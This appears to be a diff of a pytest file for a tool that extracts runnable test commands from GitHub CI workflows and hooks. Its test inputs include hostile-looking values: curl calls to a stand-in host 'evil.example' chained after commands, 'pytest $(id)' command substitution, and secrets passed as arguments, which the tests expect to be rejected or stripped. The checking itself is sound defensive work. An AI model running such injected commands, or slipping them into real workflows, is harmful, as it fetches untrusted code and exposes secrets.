@@ -5,7 +5,12 @@ import subprocess
 import pytest
 
 from agents.analysis.repository_files import RepositoryFiles
-from agents.analysis.workflows.checks import list_ci_checks, list_ci_paths, list_hooks
+from agents.analysis.workflows.checks import (
+    list_ci_checks,
+    list_ci_paths,
+    list_hooks,
+    list_left_out,
+)
 
 CI = ".github/workflows/ci.yml"
 HOOKS = ".pre-commit-config.yaml"
@@ -37,13 +42,9 @@ def test_plain_commands_of_known_programs_are_taken_with_their_source():
     [
         "npm publish",
         "sudo make test",
-        "pytest --token ${{ secrets.TOKEN }}",
         "pytest -k ${{ matrix.part }}",
-        "pytest | tee log.txt",
-        "pytest; curl http://evil.example",
         "pytest `id`",
         "pytest $(id)",
-        "pytest > out",
         "codecov --file coverage.xml",
         "make deploy",
         "curl https://evil.example/x.sh",
@@ -78,8 +79,85 @@ def test_lines_of_a_script_follow_its_folder():
     script = "|\n          npm ci\n          cd web && npm test\n          npm run lint\n"
     found = read(steps(script), "web/package.json")
     assert [each.subject for each in found] == ["npm tests in web", "npm lint in web"]
-    branch = "|\n          if true; then\n          pytest\n          fi\n"
-    assert read(steps(branch)) == []
+
+
+LATER = "go test -tags=integration ./..."
+OF_GO = ("go.mod", "a_test.go")
+
+
+def find_both(workflow, **others):
+    """Return the commands that are taken, and those that are not."""
+    texts = {CI: workflow, **others}
+    files = RepositoryFiles(frozenset([*texts, *OF_GO]), texts)
+    both = list_ci_checks(files), list_left_out(files)
+    return [[each.check.run for each in found] for found in both]
+
+
+@pytest.mark.parametrize(
+    "script",
+    [
+        f"set -o pipefail; {LATER} 2>&1 | tee out.txt",
+        f"{LATER} > out.txt 2>&1",
+        f"timeout 600 {LATER}",
+        f"if [ -f x ]; then\n  echo y\nfi\n{LATER}",
+        f"{LATER}; curl http://evil.example",
+        "go test -tags=integration --json=${{ runner.temp }}/x ./...",
+        f"docker compose run --rm app {LATER}",
+    ],
+)
+def test_a_command_is_taken_without_what_stands_around_it(script):
+    lines = "".join(f"          {line}\n" for line in script.splitlines())
+    taken, left = find_both(steps(f"|\n{lines}"))
+    assert (taken, left) == ([LATER], [])
+
+
+@pytest.mark.parametrize(
+    ("script", "left"),
+    [
+        ("for tag in a b; do go test -tags=$tag ./...; done", "go test -tags=$tag ./..."),
+        (f"if [ $A ]; then {LATER}; fi", LATER),
+        (f"{LATER} || true", LATER),
+        (f"{LATER} | grep x", LATER),
+        ("go test -tags=${{ inputs.tag }} ./...", "go test -tags=$EXPRESSION ./..."),
+    ],
+)
+def test_a_command_that_only_a_shell_can_run_is_told(script, left):
+    workflow = steps("go test ./...", f"|\n          {script}\n")
+    assert find_both(workflow) == [["go test ./..."], [left]]
+    both = steps("go test ./...", LATER, f"|\n          {script}\n")
+    assert find_both(both)[1] == ([] if left == LATER else [left])
+
+
+@pytest.mark.parametrize(
+    "condition",
+    [
+        "github.event.pull_request.draft == false",
+        "needs.changes.outputs.go == 'true'",
+        "always()",
+        "github.repository == 'octo-org/calc'",
+    ],
+)
+def test_conditions_that_a_pull_request_of_ours_meets_are_no_reason(condition):
+    assert len(read(steps("pytest", job=f'    if: "{condition}"\n'))) == 1
+
+
+def test_actions_and_workflows_of_the_repository_are_read_where_they_are_used():
+    action = f"runs:\n  using: composite\n  steps:\n    - run: {LATER}\n      shell: bash\n"
+    used = steps("go vet ./...") + "      - uses: ./.github/actions/test\n"
+    assert find_both(used, **{".github/actions/test/action.yml": action})[0][1:] == [LATER]
+    assert find_both(used, **{"other/action.yml": action})[0] == ["go vet ./..."]
+
+    called = "on: push\njobs:\n  t:\n    uses: ./.github/workflows/t.yml\n"
+    texts = {".github/workflows/t.yml": steps(LATER, on="workflow_call")}
+    assert find_both(called, **texts)[0] == [LATER]
+    assert find_both(called.replace("t.yml", "u.yml"), **texts)[0] == []
+
+
+def test_what_is_tried_again_is_a_command():
+    retried = steps("go vet ./...") + (
+        f"      - uses: nick-fields/retry@v3\n        with:\n          command: {LATER}\n"
+    )
+    assert find_both(retried)[0][1:] == [LATER]
 
 
 def test_jobs_that_are_not_about_every_change_are_left_out():
@@ -92,12 +170,13 @@ def test_jobs_that_are_not_about_every_change_are_left_out():
     assert read(steps("pytest") + "        shell: pwsh\n") == []
 
 
-def test_plain_variables_go_with_a_command_and_secrets_leave_it_out():
+def test_plain_variables_go_with_a_command_and_secrets_do_not():
     plain = "    env: {DJANGO_SETTINGS_MODULE: app.test, N: 3, OS: '${{ matrix.os }}'}\n"
     [found] = read(steps("pytest", job=plain))
     assert found.check.run == "DJANGO_SETTINGS_MODULE=app.test N=3 pytest"
-    secret = "    env: {TOKEN: '${{ secrets.TOKEN }}'}\n"
-    assert read(steps("pytest", job=secret)) == []
+    secret = "    env: {TOKEN: '${{ secrets.TOKEN }}', N: 3}\n"
+    [found] = read(steps("pytest", job=secret))
+    assert found.check.run == "N=3 pytest"
 
 
 def test_options_of_absent_plugins_make_a_command_unavailable():
@@ -325,6 +404,9 @@ def test_a_matrix_of_versions_or_of_what_nobody_can_tell_is_left_out(matrix):
         ("./gradlew clean build", "gradle tests"),
         ("bin/rspec", "ruby tests"),
         ("./vendor/bin/phpunit", "php tests"),
+        ("prove -lr t", "perl tests"),
+        ("bats tests/", "shell tests"),
+        ("npx playwright test", "npm tests"),
     ],
 )
 def test_common_ways_to_run_the_tests_are_known(run, subject):
